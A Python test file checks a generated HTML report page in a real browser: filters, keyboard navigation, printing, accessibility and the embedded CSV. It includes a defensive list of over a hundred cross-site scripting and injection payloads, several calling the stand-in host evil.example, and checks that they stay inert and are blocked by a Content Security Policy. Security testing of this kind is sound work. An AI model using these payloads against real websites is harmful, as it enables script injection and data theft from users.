"""The page in a real browser: silence, no requests, filters, keys, hostile texts, accessibility, print."""

from __future__ import annotations

import base64
import csv
import re
from importlib import resources
from itertools import cycle
from pathlib import Path

import pytest

from pipeline.reports.page import write_page

CALLS = ("alert(1)", "fetch('//evil.example/x')", "document.title='pwned'", "window.pwned=1")
SHELLS = (  # each holds a call that would run if the text became markup or script
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</title><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    '<a href="javascript:{}">x</a>',
    '"><input autofocus onfocus={}>',
    "' onmouseover='{}",
    '" style="background:url(//evil.example/a)" onclick="{}',
    "<details open ontoggle={}>",
    "<math><mtext><style><img src onerror={}></style></mtext></math>",
    '<noscript><p title="</noscript><img src onerror={}>">',
    '<!--<img src="--><img src=x onerror={}//">',
    "<template><script>{}</script></template>",
    "{{{{ constructor.constructor('{}')() }}}}",
    "{{% set x = {} %}}${{{}}}#{{{}}}",
    "\u202e<script>{}</script>\u2066",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "\u2028</script >{}\u2029<!--<script>",
)
OTHERS = (
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/c.css>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<form action=//evil.example/><button>go</button></form>",
    "<object data=//evil.example/o></object><embed src=//evil.example/e>",
    "Z\u0351\u036b\u0343\u036a" * 40,
    "a" * 5000,
    "\u200f\u202b\u2067reversed\u202c",
    "&lt;script&gt;&#60;img&#62;&amp;",
)
HOSTILE = [shell.replace("{}", call) for shell in SHELLS for call in CALLS] + list(OTHERS)


@pytest.fixture(scope="module")
def two(tmp_path_factory, make_contents, make_lines, error) -> Path:
    """Two op-eds that differ, with voices, devices, evidence, furniture and a label left to a person."""
    evidence = [{"label": "hawkish", "start": 4, "end": 10, "weight": 0.7}]
    figures = [{"label": "metaphor", "start": 11, "end": 14, "weight": 0.9}]
    rows = [
        {"article": "hard", "role": "headline", "text": "No more talks", "title": "No more talks", "author": "Ada Roe"},
        *make_lines("hard", "+++++++++++++++++.", title="No more talks", author="Ada Roe", evidence_stance=evidence),
        *make_lines("hard", "--", title="No more talks", author="Ada Roe", voice="quoted", speaker="Bo Lee"),
        *make_lines("soft", "-----------------.", title="Keep talking", author="Cy Poe"),
        *make_lines(
            "soft", "..", title="Keep talking", certainty="hedged", devices=["metaphor"], evidence_devices=figures
        ),
        *make_lines(
            "soft", "+", title="Keep talking", certainty="uncertain", abstained=["stance"], p_stance_hawkish=0.4
        ),
    ]
    path = tmp_path_factory.mktemp("page") / "two.html"
    write_page(path, make_contents(rows, error=error))
    return path


def shown(chromium) -> int:
    return chromium.js("document.querySelectorAll('.panel:not([hidden]) .s[data-l]:not([hidden])').length")


def choose(chromium, selector: str, value: object) -> None:
    kind = "checked" if isinstance(value, bool) else "value"
    told = str(value).lower() if isinstance(value, bool) else repr(value)
    chromium.js(
        f"(() => {{ const c = document.querySelector({selector!r}); c.{kind} = {told};"
        "for (const kind of ['input', 'change']) c.dispatchEvent(new Event(kind, {bubbles: true})) })()"
    )


@pytest.mark.parametrize("width", [1280, 768, 390])
def test_opens_in_silence_asks_for_nothing_and_fits_the_window(chromium, two, width) -> None:
    chromium.open(two, width=width)
    assert chromium.complaints == []
    assert chromium.requests == [two.as_uri()]
    assert chromium.js("document.documentElement.scrollWidth") <= width


def test_filters_keep_the_sentences_that_fit(chromium, two) -> None:
    chromium.open(two)
    assert shown(chromium) == 41
    choose(chromium, "[data-task=stance]", "stance-conciliatory")
    assert shown(chromium) == 19
    choose(chromium, "#f-voice", "quoted")
    assert shown(chromium) == 2
    assert chromium.js("document.getElementById('f-count').textContent") == "2 of 41 sentences"
    chromium.js("document.querySelector('#filters [type=reset]').click()")
    chromium.js("new Promise((done) => setTimeout(done, 30))")
    assert shown(chromium) == 41
    choose(chromium, "[data-task=devices]", "devices-metaphor")
    assert shown(chromium) == 2
    choose(chromium, "[data-task=devices]", "")
    choose(chromium, "#f-p", "60")
    assert shown(chromium) == 40, "the sentence of probability .4 is left out"
    choose(chromium, "#f-p", "0")
    choose(chromium, "#f-open", True)
    assert shown(chromium) == 1


def test_focus_tells_probabilities_and_arrows_move_between_sentences(chromium, two) -> None:
    chromium.open(two)
    chromium.js("document.querySelector('.panel:not([hidden]) .s[tabindex=\"0\"]').focus()")
    assert "✓ hawkish" in chromium.js("document.getElementById('tip').innerText")
    assert "80%" in chromium.js("document.getElementById('tip').innerText")
    before = chromium.js("document.activeElement.dataset.i")
    chromium.press("ArrowDown")
    assert int(chromium.js("document.activeElement.dataset.i")) == int(before) + 1
    assert chromium.js("document.activeElement.getAttribute('aria-describedby')") == "tip"
    chromium.press("Escape")
    assert chromium.js("document.getElementById('tip').hidden")
    assert chromium.js("document.querySelectorAll('.panel:not([hidden]) .s[tabindex=\"0\"]').length") == 2


def test_the_strip_follows_the_text(chromium, two) -> None:
    chromium.open(two, height=500)
    first = "document.querySelector('.panel:not([hidden]) .here').getAttribute('x')"
    chromium.js("document.documentElement.style.scrollBehavior = 'auto'")
    chromium.js("document.querySelectorAll('.panel:not([hidden]) .s[data-l]')[12].scrollIntoView()")
    chromium.js("new Promise((done) => setTimeout(done, 200))")
    assert float(chromium.js(first)) >= 8


def test_headlines_and_furniture_are_shown_on_demand(chromium, two) -> None:
    chromium.open(two)
    visible = "[...document.querySelectorAll('.aside')].filter((li) => li.offsetHeight > 0).length"
    assert chromium.js(visible) == 0
    choose(chromium, "#f-furniture", True)
    assert chromium.js(visible) == 1


def test_print_shows_every_article_and_no_controls(chromium, two, tmp_path, make_contents, make_lines) -> None:
    path = tmp_path / "three.html"
    write_page(
        path, make_contents([*make_lines("a", "+" * 12), *make_lines("b", "." * 12), *make_lines("c", "-" * 12)])
    )
    chromium.open(path)
    panels = "[...document.querySelectorAll('.panel')].filter((panel) => panel.offsetHeight > 0).length"
    assert chromium.js(panels) == 2
    chromium.media(kind="print")
    assert chromium.js(panels) == 3
    assert chromium.js("document.getElementById('filters').offsetHeight") == 0
    chromium.media()


def test_the_embedded_table_has_every_sentence(chromium, two) -> None:
    chromium.open(two)
    address = chromium.js("document.querySelector('a[download][href^=data]').href")
    text = base64.b64decode(address.split(",", 1)[1]).decode("utf-8-sig")
    rows = list(csv.DictReader(text.splitlines()))
    assert len(rows) == 42
    assert {row["article"] for row in rows} == {"hard", "soft"}
    assert rows[1]["p_stance_hawkish"] == "0.8"


def test_a_hundred_hostile_texts_do_nothing(chromium, tmp_path, make_contents) -> None:
    assert len(HOSTILE) >= 100
    evil, rows = cycle(HOSTILE), []
    for i in range(20):
        about = {name: next(evil) for name in ("title", "author", "outlet", "date")}
        names = {"article": f"{i} {next(evil)}", "source": next(evil), **about}
        rows += [
            {**names, "text": text, "voice": "quoted", "speaker": text, "stance": "hawkish", "evidence_stance": spans}
            for text in HOSTILE[i * 5 : i * 5 + 5]
            for spans in [[{"label": "hawkish", "start": 1, "end": max(2, len(text) // 2), "weight": 0.5}]]
        ]
    path = tmp_path / "hostile.html"
    write_page(path, make_contents(rows))
    chromium.open(path)
    chromium.js("document.querySelectorAll('summary').forEach((s) => s.click())")
    chromium.js("document.querySelectorAll('.s[data-l]').forEach((li) => { li.focus(); li.click() })")
    assert chromium.complaints == []
    assert chromium.requests == [path.as_uri()]
    assert chromium.js("[document.scripts.length, document.styleSheets.length]") == [2, 1]
    made = "img, iframe, object, embed, base, math, template, animate, noscript, meta, link"
    assert chromium.js(f"document.body.querySelectorAll({made!r}).length") == 0
    assert (
        chromium.js(
            "[...document.querySelectorAll('*')].flatMap((e) => [...e.attributes])"
            ".filter((a) => a.name.startsWith('on') || a.name === 'style' && a.ownerElement.id !== 'tip').length"
        )
        == 0
    )
    assert (
        chromium.js("[...document.links].filter((a) => !/^(#|data:text\\/csv)/.test(a.getAttribute('href'))).length")
        == 0
    )
    assert chromium.js("[document.title.includes('pwned'), typeof window.pwned]")[1] == "undefined"
    read = chromium.js("[...document.querySelectorAll('.s[data-l] .tx')].map((t) => t.textContent)")
    assert sorted(read) == sorted(re.sub(r"\s+", " ", text) for text in HOSTILE[:100])


def test_a_policy_stops_script_that_is_not_the_pages_own(chromium, two) -> None:
    """The second wall: were a text ever to become markup, the browser would refuse to run it."""
    chromium.open(two)
    chromium.js("document.body.append(Object.assign(document.createElement('div'), {id: 'trial'}))")
    write = "document.getElementById('trial').innerHTML = '<b>x</b>'"
    assert chromium.js(f"(() => {{ try {{ {write}; return false }} catch {{ return true }} }})()")
    chromium.js(
        "(() => { const s = document.createElement('img'); s.src = 'https://evil.example/x.png';"
        "document.body.append(s); return new Promise((done) => setTimeout(done, 100)) })()"
    )
    assert any("Content Security Policy" in told for told in chromium.complaints)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_no_barrier(chromium, two, scheme) -> None:
    axe = pytest.importorskip("axe_core_python", reason="axe-core-python is not installed")
    chromium.media(scheme=scheme)
    chromium.open(two)
    chromium.js((resources.files(axe) / "axe.min.js").read_text(encoding="utf-8") + "; 1")
    found = chromium.js(
        "axe.run({resultTypes: ['violations']}).then((r) => r.violations.map((v) =>"
        "[v.id, v.impact, v.nodes.slice(0, 3).map((n) => n.html.slice(0, 160) + ' | ' + n.failureSummary)]))"
    )
    chromium.media()
    assert found == []
